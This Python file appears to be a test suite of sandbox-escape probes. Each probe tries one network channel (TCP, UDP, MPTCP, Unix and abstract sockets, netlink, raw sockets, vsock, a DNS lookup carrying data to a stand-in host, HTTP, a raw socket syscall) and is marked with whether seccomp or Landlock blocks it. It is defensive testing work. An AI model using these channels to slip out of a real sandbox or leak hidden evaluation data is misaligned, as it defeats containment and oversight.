"""Attacks that phone out: every kind of socket there is."""

import ctypes
import os
import socket
import urllib.request

from known import ABSTRACT, PORT, SOCKET, Won, stopped_by


@stopped_by("seccomp", "landlock4")
def tcp(k_to_accuracies):
    """Connect by TCP"""
    socket.create_connection(("127.0.0.1", PORT), timeout=1).close()
    raise Won("connected by TCP")


@stopped_by("seccomp", "landlock4")
def a_server(k_to_accuracies):
    """Listen on a TCP port"""
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
    raise Won("listens")


@stopped_by("seccomp")
def udp(k_to_accuracies):
    """Send by UDP, which Landlock does not cover"""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"the hidden inputs", ("127.0.0.1", PORT))
    raise Won("sent by UDP")


def mptcp(k_to_accuracies):
    """Connect by MPTCP, which old Landlock does not cover"""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as stream:
        stream.settimeout(1)
        stream.connect(("127.0.0.1", PORT))
    raise Won("connected by MPTCP")


@stopped_by("seccomp")
def a_socket_with_a_path(k_to_accuracies):
    """Connect to a Unix socket by its path"""
    with socket.socket(socket.AF_UNIX) as stream:
        stream.connect(SOCKET)
    raise Won("connected by a path")


@stopped_by("seccomp", "landlock6")
def an_abstract_socket(k_to_accuracies):
    """Connect to an abstract Unix socket"""
    with socket.socket(socket.AF_UNIX) as stream:
        stream.connect("\0" + ABSTRACT)
    raise Won("connected by a name")


@stopped_by("seccomp")
def a_pair_of_sockets(k_to_accuracies):
    """Make a pair of sockets, to hand descriptors about"""
    for end in socket.socketpair():
        end.close()
    raise Won("has sockets")


@stopped_by("seccomp")
def netlink(k_to_accuracies):
    """Ask the kernel about the network"""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW) as asker:
        asker.bind((0, 0))
    raise Won("has a netlink socket")


def a_raw_socket(k_to_accuracies):
    """Send raw packets"""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 1) as raw:
        raise Won(str(raw))


def the_hypervisor(k_to_accuracies):
    """Talk to the machine this machine runs on"""
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as stream:
        stream.settimeout(1)
        stream.connect((2, 1))
        raise Won("talks to the hypervisor")


def a_name_that_carries_data(k_to_accuracies):
    """Ask for a host's name that holds the data"""
    raise Won(str(socket.getaddrinfo("hidden-inputs.example.com", 80)))


def a_download(k_to_accuracies):
    """Fetch a page"""
    with urllib.request.urlopen(f"http://127.0.0.1:{PORT}/", timeout=1) as page:
        raise Won(str(page.read(10)))


@stopped_by("seccomp")
def a_socket_by_the_system_call(k_to_accuracies):
    """Make a socket by the system call itself"""
    number = {"x86_64": 41, "aarch64": 198}[os.uname().machine]
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.syscall(number, int(socket.AF_INET), int(socket.SOCK_DGRAM), 0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.close(fd)
    raise Won("has a socket")
